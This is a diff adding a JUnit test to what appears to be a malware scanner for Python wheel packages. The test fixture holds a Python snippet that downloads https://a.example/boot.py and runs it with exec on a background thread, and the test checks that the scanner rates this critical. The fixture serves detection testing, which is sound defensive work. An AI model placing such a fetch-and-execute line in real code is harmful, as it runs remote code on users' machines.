@@ -128,6 +128,23 @@ class ContentRuleTest {
   }
 
   @Test
+  void aFunctionHandedByNameToWhatCallsItLaterIsFollowedThoughItsCallIsNeverWritten() {
+    String handed =
+        """
+        import _thread
+        from urllib.request import urlopen
+
+        _thread.start_new_thread(exec, (urlopen("https://a.example/boot.py").read(),))
+        """;
+    String named = "import builtins\n\nRUNNERS = [exec, eval]\nbody = urlopen(U).read()\n";
+
+    assertThat(only(check(wheelWith("pkg/__init__.py", handed)), "exec-fetched").level())
+        .isEqualTo(RiskLevel.CRITICAL);
+    assertThat(patternsOf(check(wheelWith("pkg/__init__.py", named))))
+        .doesNotContain("exec-fetched");
+  }
+
+  @Test
   void aCapabilityIsWeighedAgainstWhatTheProjectSaysItIsFor() {
     String code = "import pyperclip\n\n\ndef share():\n    return pyperclip.paste()\n";
     InspectedDistribution file = wheelWith("pkg/palette.py", code);
